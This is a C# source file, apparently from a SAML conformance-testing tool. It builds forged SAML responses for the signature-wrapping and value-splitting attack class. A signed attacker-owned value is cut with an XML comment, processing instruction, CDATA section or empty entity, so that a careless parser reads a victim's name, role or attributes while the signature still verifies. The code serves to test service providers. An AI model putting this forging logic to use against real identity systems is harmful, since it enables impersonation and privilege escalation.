using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Messages;
using Conformance.Saml.Potency;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A value that the IdP signed in one piece, cut so that a careless reader sees the victim's.</summary>
internal sealed class SplitValue(SplitKind kind, TamperingArguments arguments) : Tampering
{
    private const string Tail = ".evil.test";
    private const string Head = "evil.";
    private const string EntityToken = "conformance-entity-reference";

    public static CatalogueEntry Comment { get; } = Describe(
        SplitKind.Comment, "a comment", ["end", "front"],
        "The IdP's signature verifies, and one text node of the value is the victim's.");

    public static CatalogueEntry Instruction { get; } = Describe(
        SplitKind.Instruction, "a processing instruction, whose data replaces what was there unless told otherwise",
        ["end", "front", "middle", "end-inserted", "front-inserted"],
        "With the instruction's data as text (or, inserted, without it) the IdP's signature verifies; without it the "
        + "value is the victim's.");

    public static CatalogueEntry CData { get; } = Describe(
        SplitKind.CData, "a CDATA section around what does not belong to the victim", ["end", "front"],
        "The IdP's signature verifies, and one text node of the value is the victim's.");

    public static CatalogueEntry Entity { get; } = Describe(
        SplitKind.Entity, "a reference to an empty internal entity", ["end", "front"],
        "The message with the entity expanded verifies under the IdP's key.");

    public override string Name => NameOf(kind);

    private string Where => arguments.Required("at");

    public override ResponseDraft Draft(ResponseDraft draft, ForgeContext context)
    {
        var values = Victims(context);
        var content = Impersonation.Target(arguments, context) == ForgeryTarget.NameId
            ? draft.Content with { NameId = draft.Content.NameId! with { Value = Whole(values[0].Value) } }
            : draft.Content with
            {
                Attributes = [.. draft.Content.Attributes.Select(own => Replace(own, values)), .. Missing(draft.Content, values)],
            };
        return draft with { Content = content };
    }

    public override void AfterSigning(Workpiece work)
    {
        foreach (var victim in Victims(work.Context).Select(entry => entry.Value).Distinct(StringComparer.Ordinal))
        {
            var places = Dom.Descendants(work.Root).Where(element => element.LocalName is "NameID" or "AttributeValue"
                && element.InnerText == Whole(victim)).ToList();
            if (places.Count == 0)
            {
                throw new TamperingNotPossibleException($"the message has no place for the value '{victim}' to be split in.");
            }

            places.ForEach(place => Split(place, victim));
            work.Mark(victim);
            work.Claim(new SplitStands(victim, Whole(victim), kind));
        }
    }

    public override string OnText(string text, Workpiece work)
    {
        if (kind != SplitKind.Entity)
        {
            return text;
        }

        var root = text.IndexOf($"<{work.Root.Name}", StringComparison.Ordinal);
        return text[..root] + $"<!DOCTYPE {work.Root.Name} [<!ENTITY e \"\">]>"
            + text[root..].Replace(EntityToken, "&e;", StringComparison.Ordinal);
    }

    private static CatalogueEntry Describe(SplitKind kind, string what, string[] places, string premise) => new(
        new TamperingDescription(
            NameOf(kind),
            $"The IdP signs a longer value that is the attacker's own; then {what} cuts it so that a careless reader "
            + "sees the victim's.",
            premise,
            [
                new("at", "Where the victim's value ends up: the IdP signs VICTIM.evil.test (end) or evil.VICTIM "
                    + "(front), or VICXTIM (middle).", places),
                Impersonation.Parameter,
            ]),
        arguments => new SplitValue(kind, arguments));

    private static string NameOf(SplitKind kind) => kind switch
    {
        SplitKind.Comment => "comment-in",
        SplitKind.Instruction => "instruction-in",
        SplitKind.CData => "cdata-in",
        _ => "entity-in",
    };

    private IReadOnlyList<(string Name, string Value)> Victims(ForgeContext context)
    {
        var forgery = Impersonation.Wanted(context);
        return Impersonation.Target(arguments, context) switch
        {
            ForgeryTarget.NameId => [("", forgery.NameId)],
            ForgeryTarget.Attributes =>
                [.. forgery.Attributes.SelectMany(own => own.Value.Select(value => (own.Key, value)))],
            _ => [(forgery.RoleAttribute ?? throw new TamperingNotPossibleException("this target names no role to forge."),
                forgery.Role ?? "")],
        };
    }

    private SamlAttribute Replace(SamlAttribute own, IReadOnlyList<(string Name, string Value)> victims)
    {
        List<string> values =
            [.. victims.Where(victim => victim.Name == own.Name).Select(victim => Whole(victim.Value))];
        return values.Count == 0 ? own : own with { Values = values };
    }

    /// <summary>What the attacker has no value of, the IdP says of them all the same: the long one.</summary>
    private IEnumerable<SamlAttribute> Missing(ResponseContent content, IReadOnlyList<(string Name, string Value)> victims) => victims
        .Where(victim => content.Attributes.All(own => own.Name != victim.Name))
        .GroupBy(victim => victim.Name, StringComparer.Ordinal)
        .Select(group => new SamlAttribute(group.Key, [.. group.Select(victim => Whole(victim.Value))]));

    private string Whole(string victim) => Where switch
    {
        "middle" => victim.Insert(victim.Length / 2, "X"),
        _ when Where.StartsWith("front", StringComparison.Ordinal) => Head + victim,
        _ => victim + Tail,
    };

    private void Split(XmlElement place, string victim)
    {
        var document = place.OwnerDocument;
        var whole = Whole(victim);
        var (before, cut, after) = Where switch
        {
            "middle" => (victim[..(victim.Length / 2)], "X", victim[(victim.Length / 2)..]),
            _ when Where.StartsWith("front", StringComparison.Ordinal) => ("", Head, victim),
            _ => (victim, Tail, ""),
        };
        var isReplaced = kind == SplitKind.CData
            || (kind == SplitKind.Instruction && !Where.EndsWith("-inserted", StringComparison.Ordinal));
        while (place.FirstChild is { } child)
        {
            place.RemoveChild(child);
        }

        List<XmlNode> nodes = isReplaced
            ? [document.CreateTextNode(before), Cut(document, cut), document.CreateTextNode(after)]
            : whole.StartsWith(Head, StringComparison.Ordinal) && before.Length == 0
                ? [document.CreateTextNode(cut), Cut(document, ""), document.CreateTextNode(after)]
                : [document.CreateTextNode(before), Cut(document, ""), document.CreateTextNode(cut)];
        nodes.ForEach(node => place.AppendChild(node));
    }

    private XmlNode Cut(XmlDocument document, string text) => kind switch
    {
        SplitKind.Comment => document.CreateComment(text),
        SplitKind.Instruction => document.CreateProcessingInstruction("x", text),
        SplitKind.CData => document.CreateCDataSection(text),
        _ => document.CreateTextNode(EntityToken),
    };
}
